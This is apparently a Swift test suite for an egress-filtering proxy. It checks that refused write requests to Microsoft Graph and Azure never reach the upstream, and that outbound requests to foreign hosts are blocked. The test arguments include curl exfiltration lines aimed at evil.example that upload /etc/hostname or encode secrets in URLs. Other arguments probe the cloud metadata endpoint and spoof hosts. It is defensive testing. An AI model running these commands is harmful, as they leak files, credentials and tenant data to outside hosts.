import MMCore
import MMHTTP
import TestSupport
import Testing

@testable import MMEgress

/// Requests that .NET's own clients send from a script whose text tells nothing of them. They have the proxy and
/// nothing else.
@Suite("Requests past a script's text", .timeLimit(.minutes(5)))
struct RoadsPastTextTests {
    private static let changes: [(method: String, url: String)] = [
        ("POST", "https://graph.microsoft.com/v1.0/users/ceo@contoso.com/sendMail"),
        ("DELETE", "https://graph.microsoft.com/v1.0/users/ceo@contoso.com"),
        ("PATCH", "https://graph.microsoft.com/beta/policies/identitySecurityDefaultsEnforcementPolicy"),
        ("PUT", "https://management.azure.com/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r"),
        ("POST", "https://outlook.office365.com/adminapi/beta/t/InvokeCommand"),
        ("POST", "https://contoso.sharepoint.com/_vti_bin/client.svc/ProcessQuery"),
        ("PUT", "https://stranger.blob.core.windows.net/c/list.csv"),
        ("POST", "https://api.bap.microsoft.com/providers/x"),
    ]

    @Test("each change is judged with all that it says, and a refused one reaches nobody", arguments: changes.indices)
    func refused(_ index: Int) async throws {
        let (method, url) = Self.changes[index]
        let upstream = try Upstream()
        let wire = try await TestWire(upstream: upstream.port)
        wire.judge.say { _ in .refuse(class: "write", RequestRefusal(code: "denied", message: "Not granted.")) }
        let answer = try await Curl.run(wire, ["-X", method, "-d", #"{"a":1}"#, url])
        #expect(answer.status == "403" && upstream.received.isEmpty)
        let judged = try #require(wire.judge.judged.first)
        #expect(judged.method == method && judged.url == url)
        #expect(judged.body == .whole(Array(#"{"a":1}"#.utf8)))
        #expect((judged.place.owner == .unknown) == url.contains("stranger"))
        await wire.session.close()
        await upstream.stop()
    }

    @Test(
        "what would leave for another host, by whatever method, is refused before any lookup",
        arguments: [
            ["https://evil.example/?d=c2VjcmV0"], ["-d", "@/etc/hostname", "https://evil.example/collect"],
            ["-T", "/etc/hostname", "https://evil.example/list"], ["https://c2VjcmV0.evil.example/"],
            ["https://graph.microsoft.com.evil.example/v1.0/me"], ["https://169.254.169.254/metadata/identity"],
            ["-H", "Host: evil.example", "https://graph.microsoft.com/v1.0/me"],
            ["--connect-to", "graph.microsoft.com:443:evil.example:443", "https://graph.microsoft.com/v1.0/me"],
        ])
    func elsewhere(_ arguments: [String]) async throws {
        let upstream = try Upstream()
        let wire = try await TestWire(upstream: upstream.port)
        let answer = try? await Curl.run(wire, arguments)
        #expect(answer.map { $0.status != "200" } ?? true)
        #expect(upstream.received.isEmpty && wire.judge.judged.isEmpty)
        await wire.session.close()
        await upstream.stop()
    }
}
